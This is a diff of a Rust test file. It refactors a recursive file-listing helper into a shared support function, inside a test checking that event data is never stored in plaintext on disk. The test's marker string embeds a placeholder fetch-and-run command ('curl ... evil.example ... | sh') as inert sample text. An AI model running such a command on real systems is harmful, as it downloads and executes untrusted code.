@@ -607,20 +607,6 @@ async fn each_role_does_only_its_part() {
     f.server.stop().await;
 }
 
-/// Every file under `dir`, recursively.
-fn files(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
-    let mut out = Vec::new();
-    for e in std::fs::read_dir(dir).unwrap().flatten() {
-        let p = e.path();
-        if p.is_dir() {
-            out.extend(files(&p));
-        } else {
-            out.push(p);
-        }
-    }
-    out
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn no_byte_of_an_event_is_in_plaintext_under_the_data_directory() {
     let marker = "MARKER-7f3a9c-curl http://evil.example/x.sh | sh";
@@ -668,7 +654,7 @@ async fn no_byte_of_an_event_is_in_plaintext_under_the_data_directory() {
     let needle = &marker.as_bytes()[..16];
     let dir = f.server.dir.path().to_owned();
     let mut checked = 0;
-    for file in files(&dir) {
+    for file in support::files_under(&dir) {
         let raw = std::fs::read(&file).unwrap();
         checked += raw.len();
         assert!(
